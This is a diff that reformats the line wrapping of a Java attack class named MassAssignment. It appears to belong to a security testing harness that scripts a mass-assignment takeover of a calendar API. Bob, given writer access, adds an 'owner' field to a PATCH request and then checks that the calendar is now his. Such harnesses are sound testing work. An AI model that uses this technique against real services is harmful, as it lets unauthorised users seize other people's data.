@@ -29,12 +29,23 @@ public final class MassAssignment implements Attack {
   public AttackResult run(Target target) throws InterruptedException {
     String alice = target.loot().secret(Loot.VICTIM, "jwt");
     String bob = target.loot().secret(WRITER, "jwt");
-    Draft share = target.with("PUT", CALENDAR + "/sharing/" + WRITER, "application/json", "{\"access\":\"writer\"}");
-    target.send("Alice", "Alice lets Bob write in her calendar.", JwtAttack.withToken(share, alice));
+    Draft share =
+        target.with(
+            "PUT", CALENDAR + "/sharing/" + WRITER, "application/json", "{\"access\":\"writer\"}");
+    target.send(
+        "Alice", "Alice lets Bob write in her calendar.", JwtAttack.withToken(share, alice));
     Draft patch =
-        target.with("PATCH", CALENDAR, "application/json", "{\"name\":\"Work\",\"owner\":\"" + WRITER + "\"}");
-    target.send("Bob gives the calendar a name, and himself the calendar.", JwtAttack.withToken(patch, bob));
-    Hop after = target.send("Bob looks whose calendar it is now.", JwtAttack.withToken(target.get(CALENDAR), bob));
+        target.with(
+            "PATCH",
+            CALENDAR,
+            "application/json",
+            "{\"name\":\"Work\",\"owner\":\"" + WRITER + "\"}");
+    target.send(
+        "Bob gives the calendar a name, and himself the calendar.",
+        JwtAttack.withToken(patch, bob));
+    Hop after =
+        target.send(
+            "Bob looks whose calendar it is now.", JwtAttack.withToken(target.get(CALENDAR), bob));
     boolean his = after.status() == 200 && Events.body(after).path("owner").asText().equals(WRITER);
     return target.end(his, "Alice's calendar now belongs to Bob.");
   }
